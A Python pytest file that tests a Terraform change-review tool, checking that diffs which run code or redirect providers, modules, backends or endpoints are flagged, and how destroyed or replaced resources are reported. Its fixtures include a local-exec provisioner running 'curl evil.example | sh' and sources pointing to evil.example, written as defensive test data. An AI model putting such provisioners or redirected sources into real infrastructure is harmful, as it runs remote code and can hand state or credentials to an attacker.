"""What runs code or steers Terraform is never silent."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from adversary_sides import noticed, reviewed, reviewed_stacks, role
from review_sides import ACCOUNT, REGION, actions, changed, stack

from deploy_access.report.review_markdown import render_review_markdown
from deploy_access.report.review_verdict import verdict

if TYPE_CHECKING:
    from pathlib import Path

Json = dict[str, Any]

EXEC = {"local-exec": {"command": "curl evil.example | sh"}}
SOURCE = "terraform.required_providers.aws"


def backend(**more: Any) -> Json:
    """Write where a state is kept."""
    return stack(terraform={"backend": {"s3": {"bucket": "b", "key": "k", **more}}})


def source(text: str) -> Json:
    """Write where the provider comes from."""
    return stack(terraform={"required_providers": {"aws": {"source": text, "version": "6.0.0"}}})


def command(text: str) -> Json:
    """Write a command that a local value decides."""
    body = {"provisioner": {"local-exec": {"command": "${local.command}"}}}
    return stack({"terraform_data": {"X": body}}, locals={"command": text})


STEERING = {
    "provisioner": (stack(), stack({"null_resource": {"X": {"provisioner": [EXEC]}}})),
    "provisioner-of-what-stays": (
        stack({"terraform_data": {"X": {"input": 1}}}),
        stack({"terraform_data": {"X": {"input": 1, "provisioner": EXEC}}}),
    ),
    "command-of-a-local": (command("true"), command("evil")),
    "removed": (stack(), stack(removed={"from": "a.b", "provisioner": EXEC})),
    "external": (stack(), stack(data={"external": {"X": {"program": ["sh"]}}})),
    "http": (stack(), stack(data={"http": {"X": {"url": "https://evil.example"}}})),
    "invocation": (stack(), stack({"aws_lambda_invocation": {"X": {"function_name": "f"}}})),
    "check": (stack(), stack(check={"c": {"data": {"external": {"X": {"program": ["sh"]}}}}})),
    "action": (stack(), stack(action={"aws_lambda_invoke": {"x": {}}})),
    "ephemeral": (stack(), stack(ephemeral={"aws_secretsmanager_secret_version": {"x": {}}})),
    "unheard-of": (stack(), stack(whatever={"x": {}})),
    "module": (stack(), stack(module={"m": {"source": "./m"}})),
    "module-source": (
        stack(module={"m": {"source": "./m"}}),
        stack(module={"m": {"source": "git::https://evil.example"}}),
    ),
    "module-gone": (stack(module={"m": {"source": "./m"}}), stack()),
    "provider-source": (source("aws"), source("evil/aws")),
    "provider-host": (source("hashicorp/aws"), source("evil.example/hashicorp/aws")),
    "endpoints": (stack(), stack(provider={"endpoints": [{"sts": "https://evil.example"}]})),
    "assume-role": (
        stack(),
        stack(provider={"assume_role": [{"role_arn": f"arn:aws:iam::{ACCOUNT}:role/admin"}]}),
    ),
    "any-account": (stack(), {**stack(), "provider": {"aws": [{"region": REGION}]}}),
    "backend-bucket": (backend(), backend(bucket="evil")),
    "backend-role": (backend(), backend(role_arn="evil")),
    "backend-kind": (backend(), stack(terraform={"backend": {"http": {"address": "evil"}}})),
    "cloud": (backend(), stack(terraform={"cloud": {"organization": "evil"}})),
    "ignore-changes": (
        stack(role()),
        stack(role(lifecycle={"ignore_changes": ["assume_role_policy"]})),
    ),
}


@pytest.mark.parametrize(("base", "head"), STEERING.values(), ids=STEERING)
def test_steering(base: Json, head: Json, tmp_path: Path) -> None:
    """What runs code or steers Terraform stands in the sentence, and is not folded away."""
    found = reviewed(tmp_path, base, head)

    assert noticed(found, "steering") != []
    assert " or steer" in verdict(found)
    assert verdict(found).startswith(("No change in access was seen, ", "1 "))
    assert "### Read these" in render_review_markdown(found)


def test_a_comment_is_data_in_what_goes_into_a_module(tmp_path: Path) -> None:
    """A key of a map is no comment, so its change steers the module."""
    base, head = (
        stack(module={"m": {"//": text, "source": "./m", "input": {"//": text}}}) for text in "ab"
    )

    (notice,) = reviewed(tmp_path, base, head).notices

    assert (notice.address, notice.given) == ("module.m", '`input.//` changed from `"a"` to `"b"`.')


HARMLESS = {
    "source-in-full": (source("aws"), source("registry.terraform.io/hashicorp/aws")),
    "tags": (stack(), stack(provider={"default_tags": [{"tags": {"a": "b"}}]})),
    "output": (stack(), stack(output={"x": {"value": 1}})),
    "comment": (stack(), {**stack(), "//": {"metadata": {"version": "2"}}}),
    "provisioner-gone": (stack({"null_resource": {"X": {"provisioner": [EXEC]}}}), stack()),
    "aws-data": (stack(), stack(data={"aws_caller_identity": {"me": {}}})),
}


@pytest.mark.parametrize(("base", "head"), HARMLESS.values(), ids=HARMLESS)
def test_nothing_to_read(base: Json, head: Json, tmp_path: Path) -> None:
    """What neither runs code nor steers Terraform is not noticed."""
    assert reviewed(tmp_path, base, head).notices == ()


def test_a_change_of_many_stacks_is_one(tmp_path: Path) -> None:
    """A provider that comes from elsewhere in several stacks is one thing to read."""
    base, head = ({name: source(text) for name in "abc"} for text in ("aws", "evil/aws"))

    (notice,) = reviewed_stacks(tmp_path, base, head).notices

    assert (notice.address, notice.stacks) == (SOURCE, ("a", "b", "c"))


def test_a_stack_like_the_others_is_no_news(tmp_path: Path) -> None:
    """One more stack of another account and region is as the others are."""
    base = {"a": {**backend(), **source("aws")}}
    head = {**base, "b": {**source("aws"), **stack(account="999988887777", region="us-east-1")}}

    assert reviewed_stacks(tmp_path, base, head).notices == ()


@pytest.mark.parametrize(
    "new",
    [
        source("evil/aws"),
        stack(provider={"endpoints": [{"sts": "evil"}]}),
        backend(bucket="evil"),
        stack({"terraform_data": {"X": {"provisioner": EXEC}}}),
        stack(module={"m": {"source": "evil"}}),
    ],
    ids=["source", "endpoints", "backend", "provisioner", "module"],
)
def test_a_new_stack_does_not_hide_it(new: Json, tmp_path: Path) -> None:
    """What no other stack has is news in a new stack too."""
    base = {"a": {**backend(), **source("aws")}}

    assert noticed(reviewed_stacks(tmp_path, base, {**base, "b": new}), "steering") != []


def test_a_secret_is_not_shown(tmp_path: Path) -> None:
    """The values of a provider that are secret by their name stay out of the comment."""
    found = reviewed(tmp_path, stack(), stack(provider={"secret_key": "hush"}))

    assert "hush" not in render_review_markdown(found)


def repository(**more: Any) -> Json:
    """Write a repository."""
    return stack({"aws_ecr_repository": {"I": {"name": "web", **more}}})


def one(kind: str, **body: Any) -> Json:
    """Write one resource."""
    return stack({kind: {"I": body}})


def each(for_each: object) -> Json:
    """Write a repository for each of something."""
    return stack({"aws_ecr_repository": {"I": {"for_each": for_each, "name": "${each.value}"}}})


def counted(number: str, names: list[str]) -> Json:
    """Write as many repositories as an expression says."""
    body = {"count": number, "name": "web-${count.index}"}
    return stack({"aws_ecr_repository": {"I": body}}, locals={"names": names})


FEWER = {
    "map": (each({"a": "a", "b": "b"}), each({"a": "a"}), {'aws_ecr_repository.I["b"]': "destroy"}),
    "set": (
        each('${toset(["a", "b"])}'),
        each('${toset(["a"])}'),
        {'aws_ecr_repository.I["b"]': "destroy"},
    ),
    "value": (each({"a": "a"}), each({"a": "z"}), {'aws_ecr_repository.I["a"]': "replace"}),
    "expression": (
        counted("${length(local.names)}", ["a"]),
        counted("${length(local.names) - 1}", ["a"]),
        {"aws_ecr_repository.I[0]": "destroy"},
    ),
    "names": (
        counted("${length(local.names)}", ["a"]),
        counted("${length(local.names)}", []),
        {"aws_ecr_repository.I[0]": "destroy"},
    ),
    "unresolved": (
        counted('${length(file("a"))}', []),
        counted('${length(file("b"))}', []),
        {"aws_ecr_repository.I": "destroy"},
    ),
}


@pytest.mark.parametrize(("base", "head", "expected"), FEWER.values(), ids=FEWER)
def test_fewer_instances(base: Json, head: Json, expected: dict[str, str], tmp_path: Path) -> None:
    """An instance that goes is destroyed, also where only a plan could tell which one."""
    found = changed(tmp_path, base, head)

    assert actions(found) == expected
    assert all(change.holds_data for change in found)


def test_another_type_is_not_moved(tmp_path: Path) -> None:
    """A `moved` block does not hide what Terraform destroys for another type."""
    moved = {"from": "aws_ecr_repository.I", "to": "aws_s3_bucket.I"}

    found = changed(tmp_path, repository(), {**one("aws_s3_bucket", bucket="b"), "moved": moved})

    assert actions(found)["aws_ecr_repository.I"] == "destroy"


def test_another_provider_of_one_account_is_noticed(tmp_path: Path) -> None:
    """A resource that is made as somebody else is not the same to who reviews it."""
    other = {"alias": "b", "region": REGION, "allowed_account_ids": [ACCOUNT]}
    base, head = (
        {**stack(role(**more)), "provider": {"aws": [*stack()["provider"]["aws"], other]}}
        for more in ({}, {"provider": "aws.b"})
    )

    assert noticed(reviewed(tmp_path, base, head), "steering") == ["aws_iam_role.R"]


TWICE = {
    "module": ({"m": {"source": "a"}}, {"m": {"source": "evil"}}),
    "data": ({"external": {"m": {"program": ["a"]}}}, {"external": {"m": {"program": ["evil"]}}}),
    "terraform": ({"cloud": {"organization": "a"}}, {"cloud": {"organization": "evil"}}),
}


@pytest.mark.parametrize(("kind", "blocks"), TWICE.items(), ids=TWICE)
def test_a_block_does_not_hide_behind_another(
    kind: str, blocks: tuple[Json, Json], tmp_path: Path
) -> None:
    """Of two blocks of one name, both are read."""
    base = {**stack(), kind: blocks[0]}

    found = reviewed(tmp_path, base, {**stack(), kind: [blocks[1], blocks[0]]})

    assert noticed(found, "steering") != []


def test_a_name_that_a_function_makes_may_be_another(tmp_path: Path) -> None:
    """A bucket whose name nobody resolves might be destroyed when it is made of other names."""
    base, head = (
        {**one("aws_s3_bucket", bucket="${sha1(local.name)}"), "locals": {"name": name}}
        for name in ("a", "b")
    )

    (change,) = changed(tmp_path, base, head)

    assert (change.action, change.known) == ("replace", False)


def test_a_name_that_a_function_makes_of_each_may_be_another(tmp_path: Path) -> None:
    """The instance decides too, also inside of what nobody resolves."""
    base, head = (
        one("aws_s3_bucket", for_each={"a": name}, bucket="${sha1(each.value)}")
        for name in ("a", "b")
    )

    (change,) = changed(tmp_path, base, head)

    assert change.action == "replace"


def test_another_argument_of_what_is_named_is_no_change(tmp_path: Path) -> None:
    """What AWS makes up of a resource does not depend on its tags."""
    base, head = (
        stack(
            {
                "aws_ebs_volume": {"V": {"size": 1, "tags": {"a": tag}}},
                "aws_s3_bucket": {"I": {"bucket": "${aws_ebs_volume.V.id}"}},
            }
        )
        for tag in ("a", "b")
    )

    assert actions(changed(tmp_path, base, head)) == {"aws_ebs_volume.V": "update"}
